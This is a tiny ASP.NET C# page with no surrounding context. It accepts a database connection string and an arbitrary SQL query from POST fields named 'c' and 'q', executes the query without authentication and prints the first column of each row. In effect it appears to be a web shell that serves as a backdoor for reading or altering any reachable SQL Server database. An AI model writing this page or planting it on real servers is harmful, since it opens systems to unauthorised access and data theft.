<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<%
string cs = Request.Form["c"], q = Request.Form["q"];
if (q != null) {
    using (var conn = new SqlConnection(cs)) {
        conn.Open();
        var rd = new SqlCommand(q, conn).ExecuteReader();
        while (rd.Read()) Response.Write(rd[0] + "\n");
    }
}
%>
